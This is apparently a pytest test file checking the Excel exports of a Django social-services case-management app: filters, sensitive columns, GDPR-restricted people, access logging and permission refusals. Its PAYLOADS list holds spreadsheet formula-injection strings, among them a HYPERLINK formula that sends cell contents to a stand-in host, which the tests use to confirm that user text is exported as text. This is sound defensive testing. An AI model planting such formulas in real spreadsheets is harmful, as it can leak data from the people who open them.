"""Excel exports of the participants' lists: each opens with openpyxl and holds what its
page shows (the same filters), text typed by users stays text, sensitive columns and
restricted people as the rules say, every download logged, the wrong user refused."""

from datetime import date, time
from decimal import Decimal
from io import BytesIO

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from openpyxl import load_workbook

from kis.models import AccessLog
from kis.tests.clients import https_client
from participants.models import (
    ActivityParticipant,
    Attendance,
    CommunityEvent,
    Placement,
    Session,
    SocialContract,
)
from participants.tests.factories import ParticipantFactory, group
from participants.tests.support_factories import ActivityFactory, assign
from projects.tests.factories import StaffMemberFactory

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1", "-1", "@x", "\t=1", "\r=1"]


def sheets(response) -> dict[str, list[tuple]]:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "no-store" in response["Cache-Control"]
    book = load_workbook(BytesIO(response.content))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def assert_text_not_formula(response, texts) -> None:
    """Every text that starts like a formula came back as text (quote prefix), none as a
    formula, and every one of `texts` is in the workbook."""
    book = load_workbook(BytesIO(response.content))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value.replace("\n", "\r") if isinstance(cell.value, str) else None
                for text in texts:
                    if value is not None and text in value:
                        assert cell.data_type == "s"
                        if value.startswith(text):
                            assert cell.quotePrefix, (sheet.title, cell.coordinate)
                        found.add(text)
    assert found == set(texts)


@pytest.fixture
def people(caseworkers_see_all):
    anna = ParticipantFactory(
        first_name="Anna",
        last_name="Adamska",
        disability="moderate",
        phone="600 100 200",
        street="ul. Różana 7",
    )
    anna.groups.add(group("osoby długotrwale bezrobotne"), group("osoby chore psychicznie"))
    bogdan = ParticipantFactory(first_name="Bogdan", last_name="Bąk", sex="M", pesel="")
    cezary = ParticipantFactory(first_name="Cezary", last_name="Cichy", sex="M", pesel="")
    restricted = ParticipantFactory(last_name="Zastrzeżona", processing_restricted=True)
    return {"anna": anna, "bogdan": bogdan, "cezary": cezary, "restricted": restricted}


def test_participant_list_export_holds_the_filtered_page(caseworker_client, caseworker, people):
    query = "?sex=M"
    page = caseworker_client.get(reverse("participants:list") + query).content.decode()
    assert "Znaleziono 2 uczestników." in page
    assert reverse("participants:list_xlsx") + query in page.replace("&amp;", "&")
    data = sheets(caseworker_client.get(reverse("participants:list_xlsx") + query))
    rows = data["Uczestnicy"]
    assert rows[0][:5] == ("Nazwisko", "Imię", "PESEL", "Data urodzenia", "Płeć")
    assert [row[0] for row in rows[1:]] == ["Bąk", "Cichy"]  # the filter, in the page's order
    entries = AccessLog.objects.filter(action="export", user=caseworker)
    assert {e.participant.last_name for e in entries} == {"Bąk", "Cichy"}


def test_participant_list_dates_sensitive_columns_and_restriction(
    caseworker_client, manager_client, manager, people
):
    data = sheets(caseworker_client.get(reverse("participants:list_xlsx")))
    header, *rows = data["Uczestnicy"]
    assert "Niepełnosprawność" in header
    anna = dict(zip(header, next(r for r in rows if r[0] == "Adamska"), strict=True))
    assert anna["Data urodzenia"].date() == date(1975, 3, 14)
    assert anna["Niepełnosprawność"] == "stopień umiarkowany"
    assert "osoby chore psychicznie" in anna["Grupy wykluczenia"]
    # Restricted processing (art. 18 GDPR): left out, and said so below the rows.
    assert "Zastrzeżona" not in {row[0] for row in rows if row}
    assert any(row[0] and "Pominięto 1 osobę" in row[0] for row in rows)
    assert AccessLog.objects.filter(action="refused", participant=people["restricted"]).exists()
    sheet = load_workbook(BytesIO(caseworker_client.get(reverse("participants:list_xlsx")).content))
    assert sheet.active.freeze_panes == "A2"
    assert sheet.active["D2"].number_format == "DD.MM.YYYY"

    # Without the sensitive-data permission: no disability column, no sensitive groups.
    for role in manager.groups.all():
        role.permissions.remove(Permission.objects.get(codename="view_sensitive_data"))
    client = https_client()
    client.force_login(type(manager).objects.get(pk=manager.pk))
    header, *rows = sheets(client.get(reverse("participants:list_xlsx")))["Uczestnicy"]
    assert "Niepełnosprawność" not in header
    anna = dict(zip(header, next(r for r in rows if r[0] == "Adamska"), strict=True))
    assert anna["Grupy wykluczenia"] == "osoby długotrwale bezrobotne"


def test_a_caseworker_exports_only_the_people_he_or_she_sees(caseworker, people, settings):
    settings.KIS_CASEWORKERS_SEE_ALL = False
    people["bogdan"].registered_by = caseworker
    people["bogdan"].save()
    client = https_client()
    client.force_login(caseworker)
    rows = sheets(client.get(reverse("participants:list_xlsx")))["Uczestnicy"]
    assert [row[0] for row in rows[1:]] == ["Bąk"]


def test_user_text_is_text_in_the_participant_list(caseworker_client, people):
    person = people["bogdan"]
    person.last_name, person.first_name, person.street = PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]
    person.city, person.municipality, person.phone = PAYLOADS[3], PAYLOADS[4], PAYLOADS[5]
    person.save()
    assert_text_not_formula(caseworker_client.get(reverse("participants:list_xlsx")), PAYLOADS)


@pytest.fixture
def activity(caseworkers_see_all):
    activity = ActivityFactory(name="Trening – grupa A")
    anna = assign(activity, ParticipantFactory(first_name="Anna", last_name="Adamska")).participant
    bogdan = assign(activity, ParticipantFactory(first_name="Bogdan", last_name="Bąk")).participant
    restricted = assign(
        activity, ParticipantFactory(last_name="Zastrzeżona", processing_restricted=True)
    ).participant
    s1 = Session.objects.create(
        activity=activity, date=date(2017, 3, 7), start_time=time(16), duration_hours=Decimal("3")
    )
    s2 = Session.objects.create(
        activity=activity, date=date(2017, 3, 14), start_time=time(16), duration_hours=Decimal("3")
    )
    for session, person, status in (
        (s1, anna, "present"),
        (s2, anna, "present"),
        (s1, bogdan, "present"),
        (s2, bogdan, "absent"),
        (s1, restricted, "present"),
    ):
        Attendance.objects.create(session=session, participant=person, status=status)
    ActivityParticipant.objects.filter(participant=anna).update(completed_on=date(2017, 3, 14))
    return activity


def test_attendance_grid_export_holds_the_grid(caseworker_client, caseworker, activity):
    page = caseworker_client.get(reverse("participants:activity_detail", args=[activity.pk]))
    assert reverse("participants:activity_xlsx", args=[activity.pk]) in page.content.decode()
    data = sheets(caseworker_client.get(reverse("participants:activity_xlsx", args=[activity.pk])))
    header, anna, bogdan, *notes = data["Obecność"]
    assert header == (
        "Nazwisko",
        "Imię",
        "07.03.2017 16:00",
        "14.03.2017 16:00",
        "Godziny",
        "Godziny spotkań ze sprawdzoną obecnością",
        "Frekwencja %",
        "Poniżej progu",
        "Data ukończenia",
    )
    assert anna[:8] == ("Adamska", "Anna", "✓", "✓", 6, 6, 100, None)
    assert anna[8].date() == date(2017, 3, 14)
    assert bogdan[:8] == ("Bąk", "Bogdan", "✓", "✗", 3, 6, 50, "tak")
    assert any(row[0] and "Pominięto 1 osobę" in row[0] for row in notes if row)
    sessions = data["Spotkania"]
    assert sessions[1][:3][1:] == ("16:00", 3) and sessions[1][0].date() == date(2017, 3, 7)
    entries = AccessLog.objects.filter(action="export", user=caseworker)
    assert {e.participant.last_name for e in entries} == {"Adamska", "Bąk"}


def test_attendance_grid_user_text_is_text(caseworker_client, activity):
    session = activity.sessions.first()
    session.topic = PAYLOADS[0]
    session.save()
    person = activity.assignments.get(participant__first_name="Anna").participant
    person.last_name, person.first_name = PAYLOADS[1], PAYLOADS[2]
    person.save()
    response = caseworker_client.get(reverse("participants:activity_xlsx", args=[activity.pk]))
    assert_text_not_formula(response, PAYLOADS[:3])


@pytest.fixture
def records(caseworkers_see_all):
    staff = StaffMemberFactory(first_name="Marta", last_name="Kołodziejczyk")
    anna = ParticipantFactory(first_name="Anna", last_name="Adamska")
    bogdan = ParticipantFactory(first_name="Bogdan", last_name="Bąk", sex="M", pesel="")
    for number, person, status, start in (
        ("KS/1/2017", anna, "in_force", date(2017, 1, 2)),
        ("KS/2/2018", bogdan, "terminated", date(2018, 2, 1)),
    ):
        SocialContract.objects.create(
            number=number,
            participant=person,
            signed_on=start,
            start_date=start,
            end_date=date(start.year, 12, 31),
            goals="Praca",
            participant_obligations="Udział",
            centre_obligations="Wsparcie",
            caseworker=staff,
            status=status,
            termination_reason="brak współpracy" if status == "terminated" else "",
        )
    Placement.objects.create(
        kind="psu",
        participant=anna,
        employer_name="Gmina",
        start_date=date(2017, 3, 1),
        end_date=date(2017, 9, 30),
        hours_per_month=Decimal("40"),
    )
    Placement.objects.create(
        kind="internship",
        participant=bogdan,
        employer_name="Piekarnia",
        start_date=date(2018, 3, 1),
        end_date=date(2018, 8, 31),
        hours_per_month=Decimal("160"),
        hiring_declared=True,
    )
    return {"anna": anna, "bogdan": bogdan}


def test_contracts_list_and_export(caseworker_client, caseworker, records):
    page = caseworker_client.get(reverse("participants:contract_list") + "?year=2018")
    html = page.content.decode()
    assert "KS/2/2018" in html and "KS/1/2017" not in html
    data = sheets(caseworker_client.get(reverse("participants:contract_list_xlsx") + "?year=2018"))
    header, row = data["Kontrakty socjalne"]
    assert header[:3] == ("Numer", "Nazwisko", "Imię")
    assert row[:3] == ("KS/2/2018", "Bąk", "Bogdan")
    assert row[3].date() == date(2018, 2, 1)
    assert row[6:8] == ("rozwiązany", "brak współpracy")
    assert AccessLog.objects.filter(action="export", participant=records["bogdan"]).exists()
    assert not AccessLog.objects.filter(action="export", participant=records["anna"]).exists()


def test_placements_list_and_export(caseworker_client, records):
    html = caseworker_client.get(reverse("participants:placement_list") + "?kind=internship")
    assert "Piekarnia" in html.content.decode() and "Gmina" not in html.content.decode()
    data = sheets(
        caseworker_client.get(reverse("participants:placement_list_xlsx") + "?kind=internship")
    )
    header, row = data["Staże i PSU"]
    assert row[:4] == ("staż", "Bąk", "Bogdan", "Piekarnia")
    assert row[8:] == (160, "tak", "w trakcie")


def test_contract_and_placement_text_is_text(caseworker_client, records):
    contract = SocialContract.objects.get(number="KS/2/2018")
    contract.number, contract.termination_reason = PAYLOADS[0], PAYLOADS[1]
    contract.save()
    placement = Placement.objects.get(employer_name="Piekarnia")
    placement.employer_name, placement.referral_number = PAYLOADS[2], PAYLOADS[3]
    placement.save()
    assert_text_not_formula(
        caseworker_client.get(reverse("participants:contract_list_xlsx")), PAYLOADS[:2]
    )
    assert_text_not_formula(
        caseworker_client.get(reverse("participants:placement_list_xlsx")), PAYLOADS[2:4]
    )


def test_events_export_holds_the_list(caseworker_client, caseworker, caseworkers_see_all):
    event = CommunityEvent.objects.create(
        name=PAYLOADS[0], date=date(2017, 6, 10), place=PAYLOADS[5], outside_count=12
    )
    event.participants.add(ParticipantFactory(), ParticipantFactory())
    html = caseworker_client.get(reverse("participants:event_list")).content.decode()
    assert reverse("participants:event_list_xlsx") in html
    response = caseworker_client.get(reverse("participants:event_list_xlsx"))
    header, row = sheets(response)["Działania środowiskowe"]
    assert row[0].date() == date(2017, 6, 10) and row[5:] == (2, 12)
    assert_text_not_formula(response, [PAYLOADS[0], PAYLOADS[5]])
    assert AccessLog.objects.filter(action="export", what="community events (XLSX)").exists()


@pytest.mark.parametrize(
    "name",
    [
        "participants:list_xlsx",
        "participants:contract_list_xlsx",
        "participants:placement_list_xlsx",
        "participants:event_list_xlsx",
    ],
)
def test_anonymous_and_users_without_a_role_are_refused(client, no_role_user, name):
    url = reverse(name)
    assert client.get(url).status_code == 302
    other = https_client()
    other.force_login(no_role_user)
    assert other.get(url).status_code == 403


def test_grid_of_somebody_elses_activity_is_not_found(activity, settings):
    from kis import roles
    from kis.tests.factories import UserFactory

    settings.KIS_CASEWORKERS_SEE_ALL = False
    stranger = https_client()
    stranger.force_login(UserFactory(role=roles.CASEWORKER))
    url = reverse("participants:activity_xlsx", args=[activity.pk])
    assert stranger.get(url).status_code == 404


def test_query_count_of_the_list_export_does_not_grow(caseworker_client, caseworkers_see_all):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = reverse("participants:list_xlsx")
    ParticipantFactory.create_batch(3)
    with CaptureQueriesContext(connection) as few:
        caseworker_client.get(url)
    ParticipantFactory.create_batch(40)
    with CaptureQueriesContext(connection) as many:
        caseworker_client.get(url)
    assert len(few) == len(many)


@pytest.mark.parametrize(
    "name",
    [
        "participants:contract_list",
        "participants:contract_list_xlsx",
        "participants:placement_list",
        "participants:placement_list_xlsx",
    ],
)
def test_record_lists_query_count_does_not_grow(caseworker_client, records, name):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    url = reverse(name)
    caseworker_client.get(url)
    with CaptureQueriesContext(connection) as few:
        caseworker_client.get(url)
    staff = SocialContract.objects.first().caseworker
    for n in range(30):
        person = ParticipantFactory()
        SocialContract.objects.create(
            number=f"KS/{n + 10}/2019", participant=person, signed_on=date(2019, 1, 2),
            start_date=date(2019, 1, 2), end_date=date(2019, 12, 31), goals="Praca",
            participant_obligations="Udział", centre_obligations="Wsparcie", caseworker=staff,
        )  # fmt: skip
        Placement.objects.create(
            kind="psu", participant=person, employer_name="Gmina", start_date=date(2019, 3, 1),
            end_date=date(2019, 9, 30), hours_per_month=Decimal("40"),
        )  # fmt: skip
    with CaptureQueriesContext(connection) as many:
        caseworker_client.get(url)
    assert len(few) == len(many), (len(few), len(many))
